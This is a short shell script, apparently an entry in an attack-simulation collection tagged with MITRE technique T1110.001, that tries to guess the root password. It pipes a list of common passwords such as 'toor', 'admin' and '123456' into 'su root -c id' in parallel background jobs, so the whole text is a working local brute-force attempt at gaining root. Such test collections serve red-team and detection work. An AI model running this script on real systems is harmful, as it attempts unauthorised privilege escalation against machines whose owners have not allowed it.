# title: Passwords of root are tried by su
# technique: T1110.001
# needs: su
# as: user

for word in root toor password admin 123456 letmein qwerty secret; do
    echo "$word" | timeout 5 su root -c id 2>/dev/null &
done
wait
